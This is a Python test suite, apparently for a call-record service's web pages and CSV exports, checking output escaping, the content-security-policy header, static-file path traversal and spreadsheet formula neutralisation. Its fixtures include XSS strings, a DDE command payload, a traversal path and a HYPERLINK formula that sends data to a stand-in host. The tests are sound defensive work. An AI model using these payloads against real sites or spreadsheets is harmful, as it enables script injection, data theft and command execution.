"""The operator pages and CSV exports, through StubTreq on the real resource."""

import csv
import io
import json

import pytest_twisted

from tests.web import fixtures as F


def text(body: bytes) -> str:
    return body.decode("utf-8")


@pytest_twisted.ensureDeferred
async def test_report_opens_on_today_in_the_zone(make_site):
    site = await make_site(timezone="Asia/Kolkata")
    r, body = await site.get("/report")
    html = text(body)
    assert r.code == 200 and r.headers.getRawHeaders("content-type") == [
        "text/html; charset=utf-8"
    ]
    assert 'value="2026-11-22"' in html  # 13:00Z is 18:30 on the 22nd there
    assert 'Total Record Count <b id="total">8</b>' in html
    assert 'Filter Record Count <b id="filtered">8</b>' in html
    # Begin of E1 (10:00:00Z) in Kolkata, talk time as HH:MM:SS
    assert '<td data-label="Begin">15:30:00</td>' in html
    assert '<td data-label="Time">00:02:00</td>' in html
    for label in (
        "All",
        "Call In",
        "Call Out",
        "Only PSTN",
        "Call Out Failed",
        "Call In Reject",
        "Other",
    ):
        assert f">{label}</a>" in html
    for column in (
        "Call-Ref",
        "Notation",
        "Dialed",
        "PSTN Dial",
        "PSTN Time",
        "Caller ID",
        "PSTN Caller ID",
        "End",
    ):
        # a column header is a link that sorts by it (issue 14)
        assert f"<th>{column}</th>" in html or f">{column}</a></th>" in html


@pytest_twisted.ensureDeferred
async def test_report_reads_the_api_parameters(make_site):
    site = await make_site()
    _, body = await site.get(
        f"/report?gateway={F.GW}&from=2026-11-22&to=2026-11-22&filter=pstn"
    )
    html = text(body)
    assert 'Filter Record Count <b id="filtered">1</b>' in html
    assert "02071234567" in html and "00:00:19" in html and "cancelled" in html
    assert f'<option value="{F.GW}" selected>' in html
    # the CSV link is the same search
    assert (
        f'href="/report.csv?gateway={F.GW}&amp;from=2026-11-22&amp;to=2026-11-22&amp;filter=pstn"'
        in html
    )


@pytest_twisted.ensureDeferred
async def test_everything_user_controlled_is_escaped(make_site):
    site = await make_site()
    _, body = await site.get("/report")
    html = text(body)
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    _, body = await site.get("/log")
    assert "&lt;b&gt;not a verb&lt;/b&gt;" in text(
        body
    ) and "<b>not a verb" not in text(body)
    # a reflected parameter, too
    r, body = await site.get("/cdrs?cui=%22%3E%3Cscript%3Ex%3C/script%3E")
    assert (
        r.code == 200
        and "<script>x" not in text(body)
        # Jinja2's escape writes " as &#34; (issue 14: templates escape)
        and "&#34;&gt;&lt;script&gt;" in text(body)
    )


@pytest_twisted.ensureDeferred
async def test_bad_parameter_on_a_page_is_a_400_page(make_site):
    site = await make_site()
    r, body = await site.get("/report?from=%3Cb%3E")
    assert r.code == 400 and "text/html" in r.headers.getRawHeaders("content-type")[0]
    assert "&lt;b&gt;" in text(body) and "<b>'" not in text(body)


@pytest_twisted.ensureDeferred
async def test_report_paging(make_site):
    site = await make_site()
    _, body = await site.get(f"/report?gateway={F.GW}&limit=3&offset=3")
    html = text(body)
    assert "4–6 of 7" in html
    assert "offset=6" in html and "Previous</a>" in html
    assert html.count('<tr><td data-label="#">') == 3
    # the call ref is a link to the call (issue 14)
    assert (
        f'<td data-label="#">4</td><td data-label="Call-Ref"><a href="/call?id={F.GW}%2Fb1%2F81">81</a></td>'
        in html
    )


@pytest_twisted.ensureDeferred
async def test_report_csv_export(make_site):
    site = await make_site()
    r, body = await site.get(
        f"/report.csv?gateway={F.GW}&from=2026-11-22&to=2026-11-22&filter=out-failed"
    )
    assert r.headers.getRawHeaders("content-type") == ["text/csv; charset=utf-8"]
    assert "attachment" in r.headers.getRawHeaders("content-disposition")[0]
    rows = list(csv.reader(io.StringIO(text(body))))
    assert rows[0][:5] == ["#", "Call-Ref", "Port", "Date", "Notation"]
    assert [row[1] for row in rows[1:]] == ["76", "77"]
    assert rows[1][:14] == [
        "1",
        "76",
        "1",
        "2026-11-22",
        "Call out failed",
        "2253",
        "",
        "10:05:00",
        "",
        "",
        "",
        "",
        "10:05:03",
        "busy",
    ]


@pytest_twisted.ensureDeferred
async def test_report_csv_pages_through_big_days(make_site, monkeypatch):
    from cdrd.web import exports as app

    monkeypatch.setattr(app, "EXPORT_CHUNK", 2)
    site = await make_site()
    _, body = await site.get("/report.csv?from=2026-11-20&to=2026-11-22")
    lines = text(body).strip().split("\r\n")
    assert len(lines) == 1 + 9 and [line.split(",")[0] for line in lines[1:]] == [str(i) for i in range(1, 10)]
    _, body = await site.get("/cdrs.csv")
    assert text(body).count("\r\n") == 3


@pytest_twisted.ensureDeferred
async def test_cdrs_page_and_csv(make_site):
    site = await make_site()
    _, body = await site.get("/cdrs?cui=CARRIER-ACME")
    html = text(body)
    assert f"<code>{F.E3_CDR.line}</code>" in html and F.E1_CDR.line not in html
    # the call that created it (and billed it): a link to its page
    assert 'href="/call?id=' + F.E3_CDR.call.replace("/", "%2F") + '"' in html
    assert "billed to" not in html
    _, body = await site.get("/api/cdrs?cui=CARRIER-ACME")
    (got,) = json.loads(body)["cdrs"]
    assert (got["call"], got["billed_call"]) == (F.E3_CDR.call, F.E3_CDR.billed_call)
    _, body = await site.get("/cdrs.csv")
    assert text(body) == "".join(
        c.csv_row + "\r\n" for c in (F.E1_CDR, F.E3_CDR, F.GW2_CDR)
    )


@pytest_twisted.ensureDeferred
async def test_live_events_page_snapshot(make_site):
    site = await make_site()
    _, body = await site.get(f"/gateways/{F.GW}/events")
    html = text(body)
    assert f'data-url="/gateways/{F.GW}/events/stream" data-after="6"' in html
    assert html.index('data-id="6"') < html.index('data-id="1"')  # newest first
    assert "C(18) M(17)" in html and "2026-11-22 10:00:02.500" in html
    r, _ = await site.get("/gateways/nonsense/events")
    assert r.code == 400


@pytest_twisted.ensureDeferred
async def test_gateways_index_redirects_to_the_chosen_gateway(make_site):
    site = await make_site()
    r, _ = await site.get(f"/gateways?key={F.GW}", allow_redirects=False)
    assert r.code == 302 and r.headers.getRawHeaders("location") == [
        f"/gateways/{F.GW}/events"
    ]
    _, body = await site.get("/gateways")
    assert f'href="/gateways/{F.GW2}/events"' in text(body)


@pytest_twisted.ensureDeferred
async def test_log_page_filters(make_site):
    site = await make_site()
    _, body = await site.get("/log?gateway=8200&from=2026-11-21&to=2026-11-22")
    html = text(body)
    assert "Logout" in html and "Login" in html and "Bad Packet" not in html


@pytest_twisted.ensureDeferred
async def test_dashboard(make_site):
    from tests.web.test_api import Calls

    site = await make_site(
        calls=Calls(), status={"csv": lambda: {"directory": "var/cdrs", "written": 3}}
    )
    _, body = await site.get("/")
    html = text(body)
    assert '<b id="online">1</b>' in html and '<b id="open">1</b>' in html
    assert (
        '<span class="pill on">online</span>' in html
        and '<span class="pill off">offline</span>' in html
    )
    assert "2026-11-22 08:00:00" in html  # last login
    assert "<b>50%</b>" in html  # 3 answered of 6 attempts in the last 24 h
    assert '<svg class="chart wide"' in html and '<svg class="chart narrow"' in html
    assert "<h3>csv</h3>" in html and "var/cdrs" in html  # an output without a card of its own
    assert "00:01:00" in html  # the open call's age


@pytest_twisted.ensureDeferred
async def test_static_files_and_security_headers(make_site):
    site = await make_site()
    r, body = await site.get("/static/cdrd.js")
    assert r.code == 200 and b"EventSource" in body
    assert r.headers.getRawHeaders("content-type") == ["text/javascript; charset=utf-8"]
    for bad in ("/static/..%2Fapp.py", "/static/app.py", "/static/nothing.css"):
        r, _ = await site.get(bad)
        assert r.code == 404, bad
    r, _ = await site.get("/report")
    assert "script-src 'self'" in r.headers.getRawHeaders("content-security-policy")[0]


# -- the outputs on the dashboard ------------------------------------------------

RADIUS_OK = {
    "enabled": True, "spool_depth": 0, "oldest_age": 0.0, "in_flight": 0, "queued": 0,
    "open_legs": 2, "sent": 120, "answered": 120, "retransmissions": 4,
    "interim_interval": 600, "vendor": 32473,
    "servers": [
        {"address": "192.0.2.10:1813", "active": True, "state": "up", "rtt_ms": 1.234,
         "sent": 120, "answered": 120, "retransmissions": 4, "in_flight": 0,
         "socket_buffer": 212992, "send_errors": 0},
        {"address": "192.0.2.11:1813", "active": False, "state": "unknown", "rtt_ms": None,
         "sent": 0, "answered": 0, "retransmissions": 0, "in_flight": 0,
         "socket_buffer": 212992, "send_errors": 0},
    ],
}
SYSLOG_OK = {
    "target": "tcp:192.0.2.20:514", "format": "rfc5424", "facility": "local0",
    "connected": True, "queued": 0, "in_flight": 3, "sent": 4000, "resent": 0,
    "dropped": 0, "buffer": 100000, "last_error": "", "framing": "octet-counting",
    "stalled": "", "connections": 12,
}


def output_card(html, key):
    start = html.index(f'id="output-{key}"')
    return html[html.rindex("<section", 0, start):html.index("</section>", start)]


@pytest_twisted.ensureDeferred
async def test_dashboard_outputs_healthy(make_site):
    site = await make_site(status={"radius": lambda: RADIUS_OK, "syslog": lambda: SYSLOG_OK})
    _, body = await site.get("/")
    html = text(body)
    radius, syslog = output_card(html, "radius"), output_card(html, "syslog")
    assert 'class="card output"' in radius and ">delivering</span>" in radius
    assert "192.0.2.10:1813 <b>(active)</b>" in radius and "1.2 ms" in radius
    assert '<span class="pill on">up</span>' in radius and ">unknown</span>" in radius
    assert "Retransmissions</span><b>4</b>" in radius
    assert 'class="card output"' in syslog and ">delivering</span>" in syslog
    assert "tcp:192.0.2.20:514 · rfc5424, octet-counting · local0" in syslog
    assert 'id="syslog-problem"' not in syslog


@pytest_twisted.ensureDeferred
async def test_dashboard_outputs_problems_stand_out(make_site):
    radius = {
        **RADIUS_OK,
        "spool_depth": 1523,
        "oldest_age": 3725.4,
        "servers": [
            {**RADIUS_OK["servers"][0], "state": "down", "send_errors": 7},
            {**RADIUS_OK["servers"][1], "state": "down"},
        ],
    }
    syslog = {
        **SYSLOG_OK, "queued": 20000, "dropped": 12,
        "stalled": "the collector did not confirm (close its end) within 5 s",
    }
    site = await make_site(status={"radius": lambda: radius, "syslog": lambda: syslog})
    _, body = await site.get("/")
    html = text(body)
    r, s = output_card(html, "radius"), output_card(html, "syslog")
    assert 'class="card output bad"' in r and "no server answers" in r
    assert 'class="figure bad" id="radius-age"><span>Oldest unsent</span><b>01:02:05</b>' in r
    assert 'id="radius-depth"><span>Spool depth</span><b>1523</b>' in r
    assert '<td data-label="Send errors" class="cause">7</td>' in r
    assert 'class="card output bad"' in s and ">stalled</span>" in s
    assert 'class="figure bad" id="syslog-dropped"><span>Dropped</span><b>12</b>' in s
    assert "did not confirm (close its end) within 5 s</p>" in s
    # a status that fails is shown as such, not as a broken page
    site = await make_site(status={"syslog": lambda: 1 / 0})
    _, body = await site.get("/")
    s = output_card(text(body), "syslog")
    assert "could not be read" in s and "ZeroDivisionError" in s


# -- CSV: formulas, back-pressure ---------------------------------------------------


@pytest_twisted.ensureDeferred
async def test_report_csv_cells_never_run_as_formulas(make_site):
    """Values from gateways that a spreadsheet would run get a leading '
    (OWASP); the rest, and the UTC columns cdrd makes, are as stored."""
    import attrs

    from cdrd.interfaces import WriteBatch

    site = await make_site()
    evil = attrs.evolve(
        F.RECORDS[0],
        id=f"{F.GW}/b1/500",
        ref=500,
        cli='=HYPERLINK("http://x.example/?"&A1,"click")',
        pstn_cli="+442079460201",
        dialed="@SUM(1+1)",
        pstn_dial="\t=1+1",
        cause="-2+3",
    )
    await site.store.write(WriteBatch(records=(evil,)))
    _, body = await site.get(f"/report.csv?gateway={F.GW}&filter=out")
    rows = list(csv.reader(io.StringIO(text(body))))
    row = next(r for r in rows if r[1] == "500")
    cols = rows[0]
    assert row[cols.index("Caller ID")] == "'" + evil.cli
    assert row[cols.index("PSTN Caller ID")] == "'+442079460201"
    assert row[cols.index("Dialed")] == "'@SUM(1+1)"
    assert row[cols.index("PSTN Dial")] == "'\t=1+1"
    assert row[cols.index("Cause")] == "'-2+3"
    plain = next(r for r in rows if r[1] == "75")
    assert plain[cols.index("Dialed")] == "2252, 3"  # untouched
    assert row[cols.index("Call ID")] == evil.id
    assert row[cols.index("Begin (UTC)")] == "2026-11-22T10:00:00.000Z"


@pytest_twisted.ensureDeferred
async def test_cdrs_csv_is_the_billing_lines_byte_for_byte(make_site):
    """The billing feed is never altered (its own format starts fields with
    '-', as in -cancelled): formula-looking values stay as they are."""
    import attrs

    from cdrd.interfaces import WriteBatch
    from cdrd.values import cdr_id

    site = await make_site()
    evil = attrs.evolve(
        F.E1_CDR, id=cdr_id(F.E1_CDR.call, 9), cui="=cmd|' /C calc'!A0", cli="+4420"
    )
    await site.store.write(WriteBatch(cdrs=(evil,)))
    _, body = await site.get("/cdrs.csv?cui=" + "%3Dcmd%7C%27%20%2FC%20calc%27%21A0")
    assert text(body) == evil.csv_row + "\r\n"
    assert text(body).startswith(evil.line + ",")
    assert ",=cmd|' /C calc'!A0,2252,+4420" in evil.line


@pytest_twisted.ensureDeferred
async def test_cdrs_page_links_the_call_a_transfer_billed(make_site):
    """A CDR moved by a transfer: its Call cell links the call that created
    it and "billed to" the call whose end wrote it."""
    import attrs

    from cdrd.interfaces import WriteBatch
    from cdrd.values import cdr_id

    site = await make_site()
    billed = F.E1_CDR.call.rsplit("/", 1)[0] + "/90"
    moved = attrs.evolve(F.E1_CDR, id=cdr_id(F.E1_CDR.call, 8), cui="MOVED-CUI", billed_call=billed)
    await site.store.write(WriteBatch(cdrs=(moved,)))
    _, body = await site.get("/cdrs?cui=MOVED-CUI")
    html = text(body)
    assert 'href="/call?id=' + F.E1_CDR.call.replace("/", "%2F") + '"' in html
    assert 'href="/call?id=' + billed.replace("/", "%2F") + '">billed to 90</a>' in html


class SlowClient:
    """An HTTP connection whose client reads only when told: its transport
    pushes back once more than `window` bytes are unread."""

    def __init__(self, site, path, window=1024):
        from twisted.internet.testing import StringTransport
        from twisted.web.server import Site as WebSite

        class Transport(StringTransport):
            def write(self, data):
                super().write(data)
                if len(self.value()) > window and self.producer is not None:
                    self.producer.pauseProducing()

            def writeSequence(self, data):
                self.write(b"".join(data))

        self.channel = WebSite(site.web.resource()).buildProtocol(None)
        self.transport = Transport()
        self.channel.makeConnection(self.transport)
        self.received = b""
        self.channel.dataReceived(
            b"GET " + path.encode() + b" HTTP/1.1\r\nHost: x\r\n\r\n"
        )

    def read(self):
        self.received += self.transport.value()
        self.transport.clear()
        if self.transport.producer is not None:
            self.transport.producer.resumeProducing()

    def leave(self):
        from twisted.internet.error import ConnectionDone
        from twisted.python.failure import Failure

        self.channel.connectionLost(Failure(ConnectionDone()))


async def many_records(site, n):
    import attrs

    from cdrd.interfaces import WriteBatch

    base = F.RECORDS[0]
    await site.store.write(WriteBatch(records=[
        attrs.evolve(base, id=f"{F.GW}/b2/{i}", boot="b2", ref=i, begin=base.begin + i)
        for i in range(n)
    ]))


@pytest_twisted.ensureDeferred
async def test_exports_follow_the_clients_pace_and_stop_when_it_goes(
    make_site, monkeypatch
):
    from cdrd.web import exports as app

    monkeypatch.setattr(app, "EXPORT_CHUNK", 50)
    site = await make_site()
    await many_records(site, 2000)
    queries = []
    calls = site.store.calls
    monkeypatch.setattr(site.store, "calls", lambda q: queries.append(q) or calls(q))

    client = SlowClient(site, "/report.csv?from=2026-11-22&to=2026-11-22")
    assert len(queries) == 1  # a chunk written, then it waits for the client
    for _ in range(3):
        client.read()
    assert len(queries) == 4
    client.leave()  # the client goes: no more queries, nothing more written
    client.read()
    assert len(queries) == 4

    client = SlowClient(site, "/report.csv?from=2026-11-22&to=2026-11-22")
    for _ in range(100):
        client.read()
    # every record of the day (the fixture's 8 and 2000), then the end
    assert b"\r\n2008," in client.received and b"\r\n2009," not in client.received
    assert client.received.endswith(b"\r\n0\r\n\r\n")


@pytest_twisted.ensureDeferred
async def test_billing_export_follows_the_clients_pace(make_site, monkeypatch):
    import attrs

    from cdrd.interfaces import WriteBatch
    from cdrd.values import cdr_id
    from cdrd.web import exports as app

    monkeypatch.setattr(app, "EXPORT_CHUNK", 50)
    site = await make_site()
    await site.store.write(WriteBatch(cdrs=[
        attrs.evolve(F.E1_CDR, id=cdr_id(F.E1_CDR.call, 100 + i), cui=f"C{i}")
        for i in range(1000)
    ]))
    queries = []
    cdrs = site.store.cdrs
    monkeypatch.setattr(site.store, "cdrs", lambda q: queries.append(q) or cdrs(q))
    client = SlowClient(site, "/cdrs.csv")
    assert len(queries) == 1
    client.leave()
    client.read()
    assert len(queries) == 1


# -- issue 14: templates escape by default --------------------------------------------

XSS = "<script>alert(1)</script>"


@pytest_twisted.ensureDeferred
async def test_a_caller_id_like_script_is_escaped_on_every_page_that_shows_it(make_site):
    """A gateway's caller id `<script>…` (fixture record 76's cli, an event's
    cli, a CDR's cli, a log detail) is text on every page, never markup."""
    import attrs

    from cdrd.interfaces import WriteBatch
    from cdrd.values import cdr_id

    site = await make_site()
    evil_cdr = attrs.evolve(F.E1_CDR, id=cdr_id(F.E1_CDR.call, 7), cli=XSS, cui=XSS)
    evil_event = attrs.evolve(F.EVENTS[0], id=None, seq=900, fields={**F.EVENTS[0].fields, "cli": XSS})
    await site.store.write(WriteBatch(cdrs=(evil_cdr,), events=(evil_event,)))
    for path in (
        "/report",
        f"/report?gateway={F.GW}",
        "/cdrs",
        f"/gateways/{F.GW}/events",
        "/live",
        "/call?id=" + F.E1_CDR.call.replace("/", "%2F"),  # its CDR's cli
        "/report?number=%3Cscript%3E",
        "/summary?number=%3Cscript%3E",
        "/nowhere/%3Cscript%3E",
        "/report?from=%3Cscript%3E",
    ):
        r, body = await site.get(path)
        html = text(body)
        assert XSS not in html and "<script>alert" not in html, path
        assert html.count("<script") == 1, path  # only cdrd.js
        assert "&lt;script&gt;" in html, path
        assert "script-src 'self'" in r.headers.getRawHeaders("content-security-policy")[0]


@pytest_twisted.ensureDeferred
async def test_404_and_400_are_pages_of_the_site_with_the_search_form(make_site):
    site = await make_site()
    r, body = await site.get("/nowhere")
    html = text(body)
    assert r.code == 404 and "text/html" in r.headers.getRawHeaders("content-type")[0]
    assert '<link rel="stylesheet" href="/static/cdrd.css">' in html
    assert "There is no page at /nowhere." in html and 'action="/report"' in html
    # a 400 keeps the search as typed, in the form of the page that failed
    r, body = await site.get("/cdrs?from=2026-11-22&to=2026-11-21&cui=ACME")
    html = text(body)
    assert r.code == 400 and "is after to" in html
    assert 'action="/cdrs"' in html and 'name="cui" id="cui" value="ACME"' in html
    r, body = await site.get("/report.csv?filter=nope")
    assert r.code == 400 and 'action="/report"' in text(body)
    # the API's stay JSON
    r, body = await site.get("/api/nowhere")
    assert r.code == 404 and r.headers.getRawHeaders("content-type")[0].startswith("application/json")
